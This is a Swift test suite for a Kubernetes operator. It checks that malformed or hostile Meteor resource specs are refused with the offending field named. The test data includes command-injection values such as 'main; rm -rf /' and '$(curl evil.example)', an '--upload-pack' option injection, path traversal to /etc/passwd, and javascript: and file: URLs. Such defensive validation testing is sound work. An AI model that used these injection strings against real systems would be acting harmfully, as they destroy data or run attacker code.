import Foundation
import KubeAPIServer
import KubeClient
import KubeModels
import KubeTestSupport
import MeteorCore
import MeteorTestSupport
import Testing

/// One hostile or mistaken Meteor and the field its refusal must name.
struct BadMeteor: Sendable, CustomStringConvertible {
    var name: String
    var field: String
    var spec: JSONValue
    var description: String { name }

    static func spec(url: String = "https://github.com/aicoe-aiops/meteor-demo", ref: String = "main", _ extra: JSONObject = [:]) -> JSONValue {
        var s: JSONObject = ["url": .string(url), "ref": .string(ref)]
        s.merge(extra) { $1 }
        return .object(s)
    }

    static let edgeBase: JSONValue = [
        "images": [["name": "car", "dockerfile": "Dockerfile", "platform": "linux/arm64", "repository": "quay.io/org/car"]],
        "signing": ["publicKeySecretRef": ["name": "cosign-pub"]],
        "targets": [["name": "rpi", "cluster": "microshift-rpi", "image": "car", "path": "deploy", "namespace": "car"]],
    ]

    static var all: [BadMeteor] {
        var duplicateTargets = edgeBase
        duplicateTargets["targets"] = .array((edgeBase["targets"]?.arrayValue ?? []) + (edgeBase["targets"]?.arrayValue ?? []))
        var untargetedImage = edgeBase
        untargetedImage["images"] = .array(
            (edgeBase["images"]?.arrayValue ?? []) + [
                ["name": "twin", "dockerfile": "Dockerfile", "platform": "linux/amd64", "repository": "quay.io/org/twin"]
            ])
        return [
            BadMeteor(name: "scheme-ftp", field: "spec.url", spec: spec(url: "ftp://example.com/repo.git")),
            BadMeteor(name: "scheme-js", field: "spec.url", spec: spec(url: "javascript:alert(1)")),
            BadMeteor(name: "scheme-file", field: "spec.url", spec: spec(url: "file:///etc/passwd")),
            BadMeteor(name: "credentials", field: "spec.url", spec: spec(url: "https://bot:hunter2@github.com/org/repo")),
            BadMeteor(name: "huge-url", field: "spec.url", spec: spec(url: "https://github.com/" + String(repeating: "a", count: 1 << 20))),
            BadMeteor(name: "ref-shell", field: "spec.ref", spec: spec(ref: "main; rm -rf /")),
            BadMeteor(name: "ref-subshell", field: "spec.ref", spec: spec(ref: "$(curl evil.example)")),
            BadMeteor(name: "ref-newline", field: "spec.ref", spec: spec(ref: "main\nrm -rf /")),
            // ICU's `$` matches before a final newline; RE2's (kube-apiserver's) does not.
            BadMeteor(name: "ref-trailing-newline", field: "spec.ref", spec: spec(ref: "main\n")),
            BadMeteor(name: "ref-dotdot", field: "spec.ref", spec: spec(ref: "../../etc/passwd")),
            BadMeteor(name: "ref-option", field: "spec.ref", spec: spec(ref: "--upload-pack=touch /tmp/x")),
            BadMeteor(name: "ref-huge", field: "spec.ref", spec: spec(ref: String(repeating: "r", count: 1 << 20))),
            BadMeteor(name: "pipeline-unknown", field: "spec.pipelines", spec: spec(["pipelines": ["jupyterhub", "bitcoin-miner"]])),
            BadMeteor(name: "ttl-negative", field: "spec.ttl", spec: spec(["ttl": -5])),
            BadMeteor(name: "ttl-huge", field: "spec.ttl", spec: spec(["ttl": .int(Int64.max)])),
            BadMeteor(name: "edge-missing", field: "spec.edge", spec: spec(["pipelines": ["edge"]])),
            BadMeteor(name: "edge-dup-targets", field: "spec.edge.targets", spec: spec(["pipelines": ["edge"], "edge": duplicateTargets])),
            BadMeteor(name: "edge-untargeted", field: "spec.edge.images", spec: spec(["pipelines": ["edge"], "edge": untargetedImage])),
        ]
    }
}

/// Every kind of bad Meteor is refused — by the CRD schema at admission, or by the reconciler with InvalidSpec and
/// the field's path — creates no child object, and stalls nobody: a good Meteor created after them converges.
@Suite(.serialized) struct BadInputTests {
    static func exercise(referenceCRD: Bool) async throws -> [String: String] {
        var outcomes: [String: String] = [:]
        try await MeteorEnvironment.with(referenceCRD: referenceCRD, configure: { $0.edge = EdgeSettings() }) { env in
            let c = env.cluster
            var admitted: [BadMeteor] = []
            for bad in BadMeteor.all {
                let body: JSONValue = [
                    "apiVersion": "meteor.zone/v1alpha1", "kind": "Meteor", "metadata": ["name": .string(bad.name)], "spec": bad.spec,
                ]
                do {
                    _ = try await c.meteors.create(body)
                    admitted.append(bad)
                } catch let e as KubeError {
                    let message = e.status?.message ?? "\(e)"
                    #expect(e.status?.code == 422, "\(bad): \(message.prefix(300))")
                    #expect(message.contains(bad.field), "\(bad) refused without naming \(bad.field): \(message.prefix(300))")
                    outcomes[bad.name] = "refused by the CRD schema (422)"
                }
            }
            for bad in admitted {
                let m = try await c.waitFor(c.meteors, bad.name) { condition($0, "Ready")?["reason"] == "InvalidSpec" }
                let message = condition(m, "Ready")?["message"]?.stringValue ?? ""
                // The reference CRD has no spec.edge: it prunes it, so the reconciler can only say it is missing.
                let field = referenceCRD && bad.field.hasPrefix("spec.edge") ? "spec.edge" : bad.field
                #expect(message.contains(field), "\(bad): \(message.prefix(300))")
                #expect(m?[path: "status", "phase"] == "Failed")
                outcomes[bad.name] = "InvalidSpec (\(bad.field))"
            }
            // The good one after them all.
            _ = try await c.meteors.create([
                "apiVersion": "meteor.zone/v1alpha1", "kind": "Meteor", "metadata": ["name": "good"], "spec": BadMeteor.spec(),
            ])
            _ = try await c.waitFor(c.meteors, "good") { $0?[path: "status", "phase"] == "Building" }
            let runs = try await c.runs.list().items
            #expect(runs.allSatisfy { $0[path: "metadata", "labels", MeteorLabels.meteor] == "good" }, "a bad Meteor got a PipelineRun")
            #expect(runs.count == 2)
            #expect(try await c.applications.list().items.isEmpty)
        }
        return outcomes
    }

    @Test func ourCRDRefusesAtAdmissionAndTheReconcilerCatchesTheRest() async throws {
        let outcomes = try await Self.exercise(referenceCRD: false)
        #expect(outcomes.count == BadMeteor.all.count)
        #expect(outcomes["ref-shell"] == "refused by the CRD schema (422)")
        #expect(outcomes["ref-dotdot"] == "InvalidSpec (spec.ref)")
        #expect(outcomes["credentials"] == "InvalidSpec (spec.url)")
        #expect(outcomes["ref-trailing-newline"] == "refused by the CRD schema (422)")
    }

    /// Stored under the Go operator's laxer CRD, the same Meteors all reach the reconciler, which refuses each.
    @Test func underTheReferenceCRDTheReconcilerRefusesEachWithItsField() async throws {
        let outcomes = try await Self.exercise(referenceCRD: true)
        #expect(outcomes.count == BadMeteor.all.count)
        #expect(outcomes["ref-shell"] == "InvalidSpec (spec.ref)")
    }

    @Test func unknownFieldsAreRefusedStrictlyAndPrunedOtherwise() async throws {
        try await MeteorEnvironment.with { env in
            let c = env.cluster
            let body: JSONValue = [
                "apiVersion": "meteor.zone/v1alpha1", "kind": "Meteor", "metadata": ["name": "typo"],
                "spec": ["url": "https://github.com/a/b", "ref": "main", "pipelnes": ["jupyterhub"]],
            ]
            await #expect { _ = try await c.meteors.create(body, params: WriteParams(fieldValidation: .strict)) } throws: {
                ($0 as? KubeError)?.status?.message?.contains("unknown field \"spec.pipelnes\"") == true
            }
            let stored = try await c.meteors.create(body)
            #expect(stored[path: "spec", "pipelnes"] == nil)
        }
    }
}
